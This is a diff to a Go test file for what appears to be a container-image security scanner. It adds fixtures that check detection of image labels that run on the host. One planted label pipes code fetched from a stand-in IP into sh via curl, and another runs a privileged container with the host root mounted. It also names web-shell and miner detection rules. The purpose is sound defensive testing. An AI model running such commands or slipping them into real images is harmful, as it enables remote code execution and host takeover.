@@ -249,5 +249,17 @@ func techniqueImages(t testing.TB, base v1.Layer) []plantedImage {
 		hit{rule: "web-shell", path: "/inetpub/wwwroot/run.aspx", layer: 1},
 		hit{rule: "miner-configuration", path: "/opt/svc/gpu.json", layer: 1},
 		hit{rule: "miner-configuration", path: "/etc/default/svc", layer: 1})
+
+	// Labels runlabel runs on the host: privileged with the host's root,
+	// and one fetching code; an ordinary RUN label and other labels naming
+	// the same flags are not.
+	add("test/t-label", func(cf *v1.ConfigFile) {
+		cf.Config.Labels = map[string]string{"RUN": "podman run -d --privileged --pid=host -v /:/host IMAGE",
+			"install": "sh -c 'curl -fsSL http://198.51.100.9/i | sh'", "org.opencontainers.image.title": "agent"}
+	}, nil, nil, hit{rule: "label-runs-on-host", layer: -1}, hit{rule: "label-runs-on-host", layer: -1})
+	add("test/t-label-ok", func(cf *v1.ConfigFile) {
+		cf.Config.Labels = map[string]string{"RUN": "podman run -d -p 8080:8080 -v /srv/data:/data IMAGE",
+			"io.example.docs": "never run with --privileged or -v /:/host"}
+	}, nil, nil)
 	return out
 }
